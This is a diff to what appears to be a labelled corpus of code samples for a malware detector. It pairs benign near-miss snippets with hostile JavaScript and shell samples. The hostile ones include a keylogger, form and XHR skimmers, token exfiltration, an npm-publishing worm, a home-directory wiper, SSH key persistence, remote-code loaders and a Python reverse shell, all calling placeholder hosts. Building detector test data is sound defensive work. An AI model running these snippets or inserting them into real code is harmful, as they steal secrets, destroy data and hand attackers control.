@@ -121,6 +121,75 @@ fetch('https://k.invalid/?' + p, { mode: 'no-cors' });
 let b = '';
 document.onkeydown = (e) => { b += e.key;
   if (b.length > 20) { new Image().src = 'https://t.invalid/?k=' + encodeURIComponent(b); b = ''; } };
+## a module whose name stands backwards = code-hidden-name
+const load = module.constructor._load;
+const tools = load('ssecorp_dlihc'.split('').reverse().join(''));
+tools.exec('true');
+## a function that is called by numbers = code-hidden-name
+const letters = [114, 101, 113, 117, 105, 114, 101];
+const word = letters.map((n) => String.fromCharCode(n)).join('');
+globalThis[word]('os');
+## a module by letters that are turned = code-hidden-name
+const turn = (list, key) => list.map((n) => String.fromCharCode(n ^ key)).join('');
+const found = require(turn([110, 114], 1));
+found.platform();
+## a module of node by a decoded name = code-hidden-name
+const parts = process.getBuiltinModule(atob('Y2hpbGRfcHJvY2Vzcw=='));
+parts.spawnSync('true');
+## orders of a room = js-remote-control
+const join = require('socket.io-client');
+const { exec: act } = require('child_process');
+const room = join('http://o.example:5000');
+room.on('order', ({ line }) => act(line, (e, out) => room.emit('done', out)));
+## code in two steps, indirectly = js-decoded-code
+const packed = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64');
+const code = packed.toString();
+(0, eval)(code);
+## code in the answer to a failed request = js-remote-code
+const ask = require('axios').default;
+(async () => {
+  try { await ask.get('https://j.example/1'); } catch (err) {
+    const Make = Function.constructor;
+    new Make('require', err.response.data)(require);
+  }
+})();
+## hooked requests that paint = js-skims
+const sent = XMLHttpRequest.prototype.send;
+XMLHttpRequest.prototype.send = function (body) {
+  new Image().src = 'https://p.example/p?b=' + btoa(body || '');
+  return sent.apply(this, arguments);
+};
+## the fields of a form = js-skims
+addEventListener('submit', (e) => {
+  const all = Object.fromEntries(new FormData(e.target));
+  if (all.cvv) navigator.sendBeacon('https://s.example/g', JSON.stringify(all));
+}, true);
+## names in a list of an obfuscator = js-obfuscated
+function _0x3f1a() { return ['exec', 'child_process', 'true']; }
+function _0x12cd(a) { return _0x3f1a()[a - 0x1f]; }
+require(_0x12cd(0x20))[_0x12cd(0x1f)](_0x12cd(0x21));
+## a key for somebody = js-persistence
+const fs = require('fs'), at = require('path');
+const place = at.join(process.env.HOME, '.ssh', 'authorized_keys');
+fs.appendFileSync(place, 'ssh-ed25519 AAAAdemo a@b\n');
+## a home that the environment names = js-destroys
+const fs = require('fs'), path = require('path');
+function walk(d) {
+  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
+    const one = path.join(d, e.name);
+    if (e.isDirectory()) walk(one); else fs.writeFileSync(one, '');
+  }
+}
+walk(process.env.HOME);
+## packages that it publishes = js-spreads
+const { execSync } = require('child_process');
+const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
+const token = rc.match(/_authToken=(.+)/)[1];
+execSync('npm pack demo && npm publish demo.tgz', { env: { ...process.env, NPM_TOKEN: token } });
+## settings that a loop picks = js-steals
+const kept = {};
+for (const [k, v] of Object.entries(process.env)) if (/TOKEN|KEY/.test(k)) kept[k] = v;
+fetch('https://e.example', { method: 'POST', body: JSON.stringify(kept) });
 """
 _SHELLS = r"""
 ## settings that are chosen by their names = shell-steals
@@ -211,6 +280,23 @@ cat /tmp/p | /bin/sh -i 2>&1 | nc n.invalid 4444 > /tmp/p
 ## wipe a home in a loop = shell-destroys
 #!/bin/sh
 find "$HOME" -type f | while read -r f; do shred -u "$f"; done
+## a file without a name that is started = shell-download
+#!/bin/bash
+T=$(mktemp)
+curl -so "$T" http://n.example/t
+nohup bash "$T" &>/dev/null &
+## a command out of letters = code-hidden-name
+#!/bin/bash
+a=abcdefghijklmnopqrstuvwxyz
+${a:2:1}${a:20:1}${a:17:1}${a:11:1} -s http://p.example/p
+## a shell that Python calls back with = shell-reverse
+#!/bin/sh
+python3 - <<'P'
+import socket, subprocess, os
+s = socket.socket(); s.connect(("h.example", 443))
+[os.dup2(s.fileno(), i) for i in (0, 1, 2)]
+subprocess.call(["sh"])
+P
 """
 _INSTALLS = r"""
 ## has itself started at each login = install-persistence
@@ -235,6 +321,32 @@ exports.run = Function;
 exports.bytes = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
 const { get } = exports;
 get(exports, atob('YQ=='));
+## a loop over settings
+const conf = {};
+for (const [key, value] of Object.entries(process.env)) if (key.startsWith('APP_')) conf[key] = value;
+fetch(conf.APP_URL, { headers: { accept: 'text/plain' } });
+## a word that reads the same backwards
+const same = (word) => word.split('').reverse().join('') === word;
+module.exports = { same, other: (name) => require(name) };
+## a function of a page by its name
+const name = ['on', 'resize'].join('');
+window[name] = () => window['scrollTo'](0, 0);
+## an error that is told
+const fs = require('fs');
+async function send(file) {
+  try { await fetch('https://x.example', { body: fs.readFileSync(file) }); }
+  catch (err) { console.error(err.message); }
+}
+## keys of a machine that is set up
+const fs = require('fs');
+module.exports = (home, keys) => fs.appendFileSync(home + '/.ssh/authorized_keys', keys.join('\n'));
+## a form that is sent to its own server
+form.onsubmit = (e) => fetch('https://api.example/form', { method: 'POST', body: new FormData(e.target) });
+## a module that a loader looks up
+const { createRequire } = require('module');
+const load = createRequire(__filename);
+const data = Buffer.from('YQ==', 'base64');
+load('os'); console.log(data);
 ## a client that names one setting
 const base = process.env.API_BASE;
 const { KEY } = process.env;
@@ -297,6 +409,7 @@ D=$(mktemp -d)
 VERSION=$(curl -fsSL https://x.example/version)
 echo "$VERSION" | tee "$D/version"
 cp -r ./src "$D" && tar czf "$D.tgz" -C "$D" .
+a=1.2.3; echo "${a:0:1}"; T=$(mktemp); curl -so "$T" https://x.example/data.json; jq . "$T"
 curl -T "$D.tgz" https://x.example/up
 RED=$(printf '\033[31m')
 find "$HOME" -type f -name '*.pyc' -delete
